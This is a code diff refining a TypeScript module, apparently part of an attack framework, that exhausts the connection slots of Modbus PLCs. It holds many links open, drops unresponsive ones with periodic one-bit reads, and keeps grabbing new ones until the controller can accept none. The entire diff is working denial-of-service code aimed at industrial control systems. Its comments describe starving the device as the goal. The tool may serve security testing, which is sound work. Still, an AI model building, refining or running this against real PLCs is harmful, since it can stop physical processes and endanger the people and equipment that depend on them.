@@ -3,7 +3,6 @@ import { z } from 'zod'
 import { LinkFault, type ModbusLink } from '../plc/modbus-link.ts'
 import type { Attack } from './attack.ts'
 import { EverySeconds } from './burst.ts'
-import { answered } from './kept-link.ts'
 
 const READ_ONE_BIT = Uint8Array.of(1, 0, 0, 0, 1)
 
@@ -21,22 +20,19 @@ export const connectionExhaustion = {
   async aim(foothold, { connections, perStrike, everySeconds }) {
     const first = await foothold.link()
     const held = new Set<ModbusLink>([first])
-    // A connection that says nothing may have been cut long ago.
+    // A connection that says nothing may have been cut long ago, or idles out: each is used now and then.
     const dropDead = async () => {
       for (const link of held) {
-        if (await answered(() => link.request(READ_ONE_BIT))) continue
+        const fault = await link.request(READ_ONE_BIT).then(() => null, ourFaultIsThrown)
+        if (fault === null) continue
         held.delete(link)
         await link[Symbol.asyncDispose]()
+        // A PLC that answers nobody would hold up the strike once for each of them.
+        if (fault.code === 'LINK_TIMEOUT') return
       }
     }
-    const take = async () => {
-      try {
-        held.add(await foothold.link())
-      } catch (fault) {
-        // None is left: that is what it wants.
-        if (!(fault instanceof LinkFault)) throw fault
-      }
-    }
+    // When none is left it has what it wants.
+    const take = () => foothold.link().then((link) => void held.add(link), ourFaultIsThrown)
     return {
       ...{ tags: [], hosts: [first.host], insistSeconds: everySeconds },
       async strike() {
@@ -50,3 +46,8 @@ export const connectionExhaustion = {
     }
   }
 } satisfies Attack<typeof Parameters>
+
+function ourFaultIsThrown(fault: unknown): LinkFault {
+  if (fault instanceof LinkFault) return fault
+  throw fault
+}
